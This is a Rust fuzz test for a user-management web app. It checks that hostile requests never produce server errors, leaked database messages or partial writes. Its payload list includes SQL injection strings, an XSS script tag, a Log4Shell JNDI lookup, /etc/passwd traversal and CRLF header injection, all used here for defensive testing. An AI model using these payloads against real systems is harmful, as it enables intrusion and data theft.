//! Hostile input to every server function and to the page's query: never a 5xx, a database
//! message or a half-written row; a field at fault gets its field's message.

use app::error::AppError;
use app::users::server::IssuedPassword;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use reqwest::StatusCode;
use serde_json::{Value, json};

use super::limits::raw_http;
use super::{Enc, FUNCTIONS, NEW_PASSWORD, content_type, listed, raw_post};
use crate::both;
use crate::support::{
    Browser, PASSWORD, Reply, TestDb, admin_browser, percent_encode, start, tenant_with_users,
    user_form, user_query,
};

/// Words of database errors that must never reach a client.
const DB_WORDS: &[&str] = &[
    "sqlx",
    "sqlite",
    "syntax",
    "constraint",
    "relation",
    "postgres",
    "panicked",
    "violates",
];

/// A small deterministic generator of hostile values.
struct Hostile(StdRng);

const PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\\",
    "%",
    "_",
    "%%",
    "\"",
    "<script>alert(1)</script>",
    "${jndi:ldap://x.example/a}",
    "../../etc/passwd",
    "%00",
    "\u{0}",
    "a\u{0}b",
    "admin@acme.example\u{0}",
    "NULL",
    "null",
    "-1",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "\r\nSet-Cookie: x=1",
    "\u{202e}evil",
    "ｅｖｉｌ＠ａｃｍｅ．ｅｘａｍｐｌｅ",
    "\u{feff}",
    "\u{fffd}\u{fffd}",
    "𝕬𝖉𝖆 🦀 👩‍👩‍👧",
    "e\u{301}\u{301}\u{301}\u{301}",
    " ",
    "\t\n\r",
    "acme",
    "admin@acme.example",
    "Europe/Berlin",
    "+14155550123",
    "active",
    "suspended",
    "tenant_admin",
];

/// Characters of every awkward kind: controls (C0, DEL, C1), bidi and zero-width marks,
/// combining marks, astral symbols, and plain ones.
fn awkward_char(rng: &mut StdRng) -> char {
    let ranges: &[(u32, u32)] = &[
        (0x00, 0x1f),
        (0x7f, 0x9f),
        (0x20, 0x7e),
        (0x20, 0x7e),
        (0xa0, 0x24f),
        (0x200b, 0x200f),
        (0x202a, 0x202e),
        (0x2060, 0x2064),
        (0x0300, 0x036f),
        (0x4e00, 0x4fff),
        (0xfff0, 0xfffd),
        (0x1f300, 0x1f64f),
        (0x10000, 0x10fff),
    ];
    let (lo, hi) = ranges[rng.gen_range(0..ranges.len())];
    char::from_u32(rng.gen_range(lo..=hi)).unwrap_or('?')
}

impl Hostile {
    fn new(seed: u64) -> Hostile {
        Hostile(StdRng::seed_from_u64(seed))
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.0.gen_range(0..items.len())]
    }

    /// A hostile string: payloads, random and awkward characters, long ones (up to 8,000
    /// characters; 1 MB fields are `limits::bodies_over_the_limit_are_refused_with_413`), control
    /// characters inside plain text.
    fn string(&mut self) -> String {
        let rng = &mut self.0;
        match rng.gen_range(0..8) {
            0 => PAYLOADS[rng.gen_range(0..PAYLOADS.len())].to_string(),
            1 => (0..rng.gen_range(0..40))
                .map(|_| rng.gen_range(0x20u8..0x7f) as char)
                .collect(),
            2 | 3 => (0..rng.gen_range(1..40))
                .map(|_| awkward_char(rng))
                .collect(),
            4 => {
                // Long: 300 to 8,000 characters.
                let c = awkward_char(rng);
                std::iter::repeat_n(c, rng.gen_range(300..8000)).collect()
            }
            5 => {
                let local: String = (0..rng.gen_range(0..20))
                    .map(|_| awkward_char(rng))
                    .collect();
                format!("{local}@acme.example")
            }
            6 => {
                // A control character inside otherwise plain text.
                let c = char::from_u32(rng.gen_range(0..0x20)).unwrap();
                format!("Ab{c}cd")
            }
            _ => String::new(),
        }
    }

    /// A value of any JSON type, often not the one expected.
    fn value(&mut self, agent: i64) -> Value {
        match self.0.gen_range(0..14) {
            0 => Value::Null,
            1 => json!(self.0.gen_bool(0.5)),
            2 => json!(self.pick(&[0i64, -1, i64::MAX, i64::MIN, 1_000_000_000_000, agent])),
            3 => json!(self.pick(&[1.5f64, -0.0, 1e300, f64::MIN_POSITIVE])),
            4 => json!(u64::MAX),
            5 => json!([]),
            6 => json!([self.string(), agent]),
            7 => json!({}),
            8 => json!({ "a": self.string() }),
            9 => {
                // Deeper than any decoder should follow.
                let mut v = json!(1);
                for _ in 0..self.0.gen_range(100..300) {
                    v = json!([v]);
                }
                v
            }
            10 => json!(
                (0..self.0.gen_range(0..200))
                    .map(|i| i * 7)
                    .collect::<Vec<i64>>()
            ),
            _ => json!(self.string()),
        }
    }

    /// Raw bytes that are not what any decoder expects: invalid UTF-8, cut-off JSON, broken
    /// percent-escapes, nested query syntax.
    fn garbage(&mut self, valid: &[u8]) -> Vec<u8> {
        let rng = &mut self.0;
        match rng.gen_range(0..8) {
            0 => (0..rng.gen_range(0..200))
                .map(|_| rng.r#gen::<u8>())
                .collect(),
            1 => {
                let mut v = valid.to_vec();
                let at = rng.gen_range(0..=v.len());
                v.insert(at, self.pick(&[0xffu8, 0xfe, 0xc0, 0x80, 0xed]));
                v
            }
            2 => valid[..self.0.gen_range(0..=valid.len())].to_vec(),
            3 => b"%ZZ%%%G0=%FF%FE&password=%ED%A0%80".to_vec(),
            4 => b"form[first_name][0][x]=1&form[email]=a&&&===&user_type[]=x".to_vec(),
            5 => b"{\"form\": {\"first_name\": \"\\ud800\"}, \"user_type\": \"agent\"}".to_vec(),
            6 => Vec::new(),
            _ => {
                let mut v = valid.to_vec();
                v.extend_from_slice(&valid[..valid.len() / 2]);
                v
            }
        }
    }
}

/// Replaces, removes or adds one field somewhere in a JSON template.
fn mutate(h: &mut Hostile, v: &mut Value, agent: i64) -> Option<String> {
    let Value::Object(map) = v else {
        *v = h.value(agent);
        return None;
    };
    let keys: Vec<String> = map.keys().cloned().collect();
    if keys.is_empty() {
        map.insert("extra".into(), h.value(agent));
        return None;
    }
    match h.0.gen_range(0..10) {
        0 => {
            let k = h
                .pick(&keys.iter().map(String::as_str).collect::<Vec<_>>())
                .to_string();
            map.remove(&k);
            None
        }
        1 => {
            let extra = h.pick(&["extra", "tenant_id", "id", "user_type", "__proto__", ""]);
            map.insert(extra.to_string(), h.value(agent));
            None
        }
        2 | 3 => {
            let k = h
                .pick(&keys.iter().map(String::as_str).collect::<Vec<_>>())
                .to_string();
            let v = h.value(agent);
            map.insert(k, v);
            None
        }
        _ => {
            let k = h
                .pick(&keys.iter().map(String::as_str).collect::<Vec<_>>())
                .to_string();
            let slot = map.get_mut(&k).unwrap();
            if slot.is_object() {
                return mutate(h, slot, agent).map(|f| format!("{k}.{f}"));
            }
            *slot = json!(h.string());
            Some(k)
        }
    }
}

/// The field names a function's errors may name.
fn fields_of(endpoint: &str) -> &'static [&'static str] {
    match endpoint {
        "create_user" | "update_user" => &[
            "first_name",
            "last_name",
            "email",
            "phone",
            "external_id",
            "timezone",
            "role_ids",
            "user_type",
            "status",
        ],
        "set_user_status" => &["status"],
        "bulk_change" => &["role_ids"],
        "activity" => &["actor", "action", "from", "to"],
        "change_password" => &["current_password", "new_password", "confirm_password"],
        _ => &[],
    }
}

/// Whether `s`, once trimmed, still holds a control character (a field rule refuses it).
fn has_inner_control(s: &str) -> bool {
    s.trim().chars().any(char::is_control)
}

#[derive(Default, Debug)]
struct Tally {
    cases: usize,
    ok: usize,
    client_errors: usize,
    too_large: usize,
    field_checked: usize,
}

/// Checks one reply to a hostile request: never a 5xx, a database word, or an untyped 4xx;
/// a field error names a field of the function.
fn check(endpoint: &str, case: &str, r: &Reply, tally: &mut Tally) -> Option<AppError> {
    tally.cases += 1;
    assert!(
        !r.status.is_server_error(),
        "{endpoint} answered {} to {case}: {}",
        r.status,
        r.body
    );
    let lower = r.body.to_lowercase();
    for w in DB_WORDS {
        assert!(
            !lower.contains(w),
            "{endpoint}: {w:?} in the reply to {case}: {}",
            r.body
        );
    }
    if r.status == StatusCode::PAYLOAD_TOO_LARGE {
        tally.too_large += 1;
        return None;
    }
    if r.status.is_success() {
        tally.ok += 1;
        return None;
    }
    assert!(
        r.status.is_client_error(),
        "{endpoint} {case}: {}",
        r.status
    );
    tally.client_errors += 1;
    let err: AppError = serde_json::from_str(&r.body).unwrap_or_else(|e| {
        panic!(
            "{endpoint}: untyped {} ({e}) to {case}: {}",
            r.status, r.body
        )
    });
    assert_eq!(
        err.status(),
        r.status.as_u16(),
        "{endpoint} {case}: {err:?}"
    );
    if let AppError::Invalid(fields) = &err {
        assert!(!fields.is_empty(), "{endpoint} {case}");
        for f in fields {
            assert!(
                fields_of(endpoint).contains(&f.field.as_str()) && !f.message.is_empty(),
                "{endpoint}: unknown field {:?} for {case}",
                f.field
            );
        }
    }
    Some(err)
}

const CASES_PER_FUNCTION: usize = 300;

async fn hostile_input_never_gets_a_5xx_a_database_message_or_a_half_written_row(db: &TestDb) {
    let (t, admin_id, agent_id) = tenant_with_users(&db.store, "acme").await;
    let server = start(db).await;
    let mut admin = admin_browser(&server, "acme").await;
    let mut agent = Browser::new(&server);
    agent.sign_in("acme", "agent@acme.example", PASSWORD).await;
    let mut anonymous = Browser::new(&server);
    let agent_row = listed(&mut admin, agent_id).await;
    let origin = vec![
        ("origin", server.base.clone()),
        ("accept", "application/json".into()),
    ];
    let mut h = Hostile::new(0x5eed_0005);
    let mut report = Vec::new();
    let mut created = 0i64;

    for (endpoint, enc) in FUNCTIONS {
        let mut tally = Tally::default();
        // Who calls: the agent for change_password (its session stays an agent's), nobody for
        // sign-in and sign-out (so no session is ended), the admin for the rest.
        let b = match *endpoint {
            "change_password" => &mut agent,
            "sign_in" | "sign_out" | "viewer" => &mut anonymous,
            _ => &mut admin,
        };
        let template: Value = match *endpoint {
            "sign_in" => json!({ "workspace": "acme", "email": "nobody@acme.example",
                                 "password": "not the password" }),
            "change_password" => json!({ "current_password": "not the current one",
                "new_password": NEW_PASSWORD, "confirm_password": NEW_PASSWORD }),
            "list_users" | "users_table" => json!({ "query": user_query("") }),
            "get_user" => json!({ "id": agent_id.0 }),
            "create_user" => json!({ "form": user_form("Fuzz", "Tester", "fuzz@acme.example"),
                                     "user_type": "agent" }),
            "update_user" => json!({ "id": agent_id.0, "version": agent_row.version,
                "form": user_form("Agent", "Tester", "agent@acme.example"), "status": "active" }),
            "reset_password" => json!({ "id": agent_id.0 }),
            "set_user_status" => json!({ "id": agent_id.0, "status": "active" }),
            "bulk_change" => json!({ "action": "reactivate", "target": { "users": [agent_id.0] } }),
            "cancel_bulk_job" => json!({ "id": 1 }),
            "user_history" => json!({ "id": agent_id.0, "before": null }),
            "activity" => {
                json!({ "query": { "actor": "agent@acme.example", "action": "user.update",
                "from": "2026-01-01", "to": "2026-12-31", "before": null, "after": null } })
            }
            _ => json!({}),
        };
        for i in 0..CASES_PER_FUNCTION {
            let mut v = template.clone();
            let targeted = matches!(*endpoint, "create_user" | "update_user") && i % 5 == 3;
            let (ctype, body, field, desc) = if targeted {
                // One field at fault, the rest valid: a control character inside it, or far
                // too long for its rule.
                let name = h.pick(&["first_name", "last_name", "email", "external_id", "phone"]);
                let value = if h.0.gen_bool(0.5) {
                    let c = char::from_u32(h.0.gen_range(0..0x20)).unwrap();
                    let c = h.pick(&[c, '\u{7f}', '\u{85}', '\u{9b}']);
                    format!("ab{c}cd@acme.example")
                } else {
                    "x".repeat(h.0.gen_range(300..20_000))
                };
                v["form"][name] = json!(value);
                let body = serde_json::to_vec(&v).unwrap();
                let desc = format!("{name} = {:?}", truncate(&value, 40));
                (content_type(*enc), body, Some(format!("form.{name}")), desc)
            } else if i % 5 == 4 {
                // Raw garbage, sometimes under the other encoding's content type.
                let valid = match enc {
                    Enc::Json => serde_json::to_vec(&template).unwrap(),
                    Enc::Form => form_body(&template).into_bytes(),
                };
                let body = h.garbage(&valid);
                let ctype = if h.0.gen_bool(0.8) {
                    content_type(*enc)
                } else {
                    h.pick(&[
                        "application/json",
                        "application/x-www-form-urlencoded",
                        "text/plain",
                        "",
                    ])
                };
                let desc = format!(
                    "garbage {:?}",
                    String::from_utf8_lossy(&body[..body.len().min(80)])
                );
                (ctype, body, None, desc)
            } else {
                let mut field = None;
                let rounds = h.0.gen_range(1..=2);
                for _ in 0..rounds {
                    field = mutate(&mut h, &mut v, agent_id.0);
                }
                // Only a lone mutation pins the fault on one field.
                let field = field.filter(|_| rounds == 1);
                let body = match enc {
                    Enc::Json => serde_json::to_vec(&v).unwrap(),
                    Enc::Form => form_body(&v).into_bytes(),
                };
                let desc = truncate(&v.to_string(), 160);
                (content_type(*enc), body, field, desc)
            };
            if body.len() > omnibots::MAX_BODY_BYTES {
                // Over the limit: refused on its length alone (sent without its body, see
                // `raw_http`, as the server closes the connection on a body it will not read).
                let head = format!(
                    "POST /api/{endpoint} HTTP/1.1\r\nContent-Type: {ctype}\r\n\
                     Content-Length: {}\r\n",
                    body.len()
                );
                assert_eq!(
                    raw_http(&server.base, &head, body, true).await,
                    413,
                    "{desc}"
                );
                tally.cases += 1;
                tally.too_large += 1;
                continue;
            }
            let r = raw_post(b, &format!("/api/{endpoint}"), &origin, ctype, body).await;
            let err = check(endpoint, &desc, &r, &mut tally);
            if *endpoint == "create_user" && r.status == StatusCode::OK {
                let issued: IssuedPassword = serde_json::from_str(&r.body).unwrap();
                assert!(issued.user.id > 0);
                created += 1;
            }
            // One string field with a control character inside, the rest valid: that field's
            // message (sign-in answers its one message, by design).
            if let Some(field) = field
                && matches!(*endpoint, "create_user" | "update_user")
                && let Some(name) = field.strip_prefix("form.")
                && ["first_name", "last_name", "email", "external_id", "phone"].contains(&name)
                && let Some(s) = v["form"][name].as_str()
                && (has_inner_control(s) || s.chars().count() > 300)
                && r.status != StatusCode::PAYLOAD_TOO_LARGE
            {
                let err = err.unwrap_or_else(|| panic!("{endpoint} accepted {desc}"));
                assert!(
                    err.field_message(name).is_some(),
                    "{endpoint}: no message for {name} in {err:?} ({desc})"
                );
                tally.field_checked += 1;
            }
        }
        report.push((endpoint.to_string(), tally));
    }

    // Pages read the URL: hostile queries render or refuse, never fail.
    let mut tally = Tally::default();
    for _ in 0..CASES_PER_FUNCTION {
        let mut param = |json: bool| {
            let v = if json {
                h.value(agent_id.0).to_string()
            } else {
                h.string()
            };
            percent_encode(&truncate(&v, 300))
        };
        let q = format!(
            "/?q={}&status={}&type={}&role={}&sort={}&size={}&after={}",
            param(false),
            param(false),
            param(false),
            param(true),
            param(false),
            param(true),
            param(true),
        );
        let r = admin.get(&q).await;
        tally.cases += 1;
        assert!(
            r.status.is_success(),
            "GET {}: {}",
            truncate(&q, 300),
            r.status
        );
        let lower = r.body.to_lowercase();
        for w in ["sqlx", "sqlite", "syntax error", "violates", "panicked"] {
            if let Some(at) = lower.find(w) {
                let from = lower[..at]
                    .char_indices()
                    .rev()
                    .nth(150)
                    .map_or(0, |(i, _)| i);
                let to = lower[at..]
                    .char_indices()
                    .nth(150)
                    .map_or(lower.len(), |(i, _)| at + i);
                panic!(
                    "{w:?} in GET {}: …{}…",
                    truncate(&q, 300),
                    &r.body[from..to]
                );
            }
        }
        tally.ok += 1;
    }
    report.push(("GET / (query)".into(), tally));

    // No half-written rows: the users are the two plus each create that succeeded, and the
    // maintained counts equal a fresh count.
    let c = db.store.tenant_counts(t).await.unwrap();
    assert_eq!(c, db.store.tenant_counts_by_scan(t).await.unwrap());
    assert_eq!(c.total, 2 + created, "{report:?}");
    // The admin's session survived it all.
    assert_eq!(admin.stats().await.status, StatusCode::OK);
    let _ = admin_id;
    let total: usize = report.iter().map(|(_, t)| t.cases).sum();
    eprintln!("hostile input ({}): {total} cases", db.store.backend());
    for (f, t) in &report {
        eprintln!(
            "  {f:16} {:4} cases: {:4} ok, {:4} 4xx typed, {:3} 413, {:3} field checks",
            t.cases, t.ok, t.client_errors, t.too_large, t.field_checked
        );
    }
}
both!(
    hostile_input,
    hostile_input_never_gets_a_5xx_a_database_message_or_a_half_written_row
);

fn truncate(s: &str, n: usize) -> String {
    s.chars().take(n).collect()
}

/// A form body of a flat JSON object (non-string values as their JSON text).
fn form_body(v: &Value) -> String {
    match v {
        Value::Object(map) => map
            .iter()
            .map(|(k, v)| {
                let v = match v {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                format!("{}={}", percent_encode(k), percent_encode(&v))
            })
            .collect::<Vec<_>>()
            .join("&"),
        other => percent_encode(&other.to_string()),
    }
}
